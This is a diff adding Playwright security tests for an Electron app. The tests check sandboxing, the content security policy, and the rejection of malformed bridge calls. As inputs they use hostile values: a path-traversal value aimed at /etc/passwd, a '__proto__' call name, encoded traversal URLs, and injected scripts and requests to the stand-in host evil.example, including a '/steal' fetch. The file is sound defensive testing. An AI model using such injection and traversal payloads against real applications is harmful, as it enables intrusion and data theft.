@@ -1,0 +1,121 @@
+import { expect, test } from '@playwright/test';
+import { launchApp, type App } from '#tests/kit/launch-app.ts';
+
+// What a page could try if something foreign ever ran in it. None of it may work.
+
+let app: App;
+
+test.beforeAll(async () => {
+  app = await launchApp();
+  await expect.poll(() => app.page.evaluate(() => document.readyState)).toBe('complete');
+});
+test.afterAll(() => app.close());
+
+interface Bridge {
+  readonly postwright: Record<string, unknown> & { call(name: unknown, input: unknown): Promise<unknown> };
+}
+
+test('the page has exactly two functions and nothing of Node or Electron', async () => {
+  const seen = await app.page.evaluate(() => ({
+    bridge: Object.keys((window as unknown as Bridge).postwright).toSorted(),
+    globals: ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].filter((name) => name in window),
+    address: location.href.split('#')[0],
+  }));
+  expect(seen).toEqual({ bridge: ['call', 'onFact'], globals: [], address: 'app://postwright/index.html' });
+});
+
+test('the window is isolated and sandboxed', async () => {
+  const preferences = await app.electron.evaluate(({ BrowserWindow }) => {
+    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as { getLastWebPreferences(): Record<string, unknown> };
+    const { contextIsolation, sandbox, nodeIntegration, webSecurity, webviewTag } = contents.getLastWebPreferences();
+    return { contextIsolation, sandbox, nodeIntegration, webSecurity, webviewTag };
+  });
+  expect(preferences).toEqual({
+    contextIsolation: true,
+    sandbox: true,
+    nodeIntegration: false,
+    webSecurity: true,
+    webviewTag: false,
+  });
+});
+
+test('malformed calls are answered with a failure, and nothing else happens', async () => {
+  const codes = await app.page.evaluate(async () => {
+    const { postwright } = window as unknown as Bridge;
+    const asked: [unknown, unknown][] = [
+      ['posts.destroyAll', undefined],
+      ['__proto__', {}],
+      [{ toString: 'x' }, {}],
+      ['channels.connect', { platform: '../../etc/passwd', answers: {} }],
+      ['settings.setWorkspace', { zone: 7 }],
+      ['settings.setWorkspace', { zone: 'Europe/Atlantis' }],
+      ['media.importBytes', { name: 'x'.repeat(10_000), bytes: 'no bytes' }],
+    ];
+    return Promise.all(asked.map(async ([name, input]) => ((await postwright.call(name, input)) as { code?: string }).code));
+  });
+  expect(codes).toEqual([
+    'call.unknown',
+    'call.unknown',
+    'call.unknown',
+    'call.bad-input',
+    'call.bad-input',
+    'time.unknown-zone',
+    'call.bad-input',
+  ]);
+});
+
+test('foreign and inline scripts, frames, pictures and requests are blocked by the content policy', async () => {
+  const blocked = await app.page.evaluate(async () => {
+    const seen: string[] = [];
+    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
+    const add = (html: string): void => void document.body.append(document.createRange().createContextualFragment(html));
+    add('<script>window.wasRun = true</script>');
+    add('<script src="data:text/javascript,window.wasRun=true"></script>');
+    add('<script src="https://evil.example/x.js"></script>');
+    add('<iframe src="https://evil.example/"></iframe>');
+    add('<img src="https://evil.example/pixel.png">');
+    add('<object data="https://evil.example/x"></object>');
+    await fetch('https://evil.example/steal').catch(() => undefined);
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return { seen: [...new Set(seen)].toSorted(), wasRun: 'wasRun' in window };
+  });
+  expect(blocked.wasRun).toBe(false);
+  for (const directive of ['connect-src', 'frame-src', 'img-src', 'object-src', 'script-src-elem']) {
+    expect(blocked.seen).toContain(directive);
+  }
+});
+
+test('no other page, window, permission or download', async () => {
+  const before = app.page.url();
+  const tried = await app.page.evaluate(async () => {
+    const opened = window.open('https://evil.example/');
+    location.href = 'https://evil.example/';
+    const link = document.createElement('a');
+    Object.assign(link, { href: 'data:text/plain,hello', download: 'hello.txt' });
+    link.click();
+    const asked = ['geolocation', 'notifications', 'camera', 'microphone'] as PermissionName[];
+    const states = await Promise.all(asked.map(async (name) => (await navigator.permissions.query({ name })).state));
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return { opened: opened !== null, granted: states.filter((state) => state === 'granted') };
+  });
+  expect(tried).toEqual({ opened: false, granted: [] });
+  expect(app.page.url()).toBe(before);
+  expect(app.electron.windows()).toHaveLength(1);
+});
+
+test('app:// gives the window’s own files and nothing beside them', async () => {
+  const statuses = await app.page.evaluate(async () => {
+    const paths = ['/index.html', '/..%2f..%2fpackage.json', '/%2e%2e/%2e%2e/package.json', '/media/../library.sqlite', `/media/${'0'.repeat(64)}`];
+    return Promise.all(paths.map(async (path) => (await fetch(path)).status));
+  });
+  expect(statuses).toEqual([200, 403, 200, 403, 404]);
+});
+
+test('every answer of app:// carries the policy', async () => {
+  const headers = await app.page.evaluate(async () => {
+    const answer = await fetch('/index.html');
+    return ['content-security-policy', 'x-content-type-options', 'content-type'].map((name) => answer.headers.get(name));
+  });
+  expect(headers[0]).toContain("default-src 'none'");
+  expect(headers.slice(1)).toEqual(['nosniff', 'text/html; charset=utf-8']);
+});
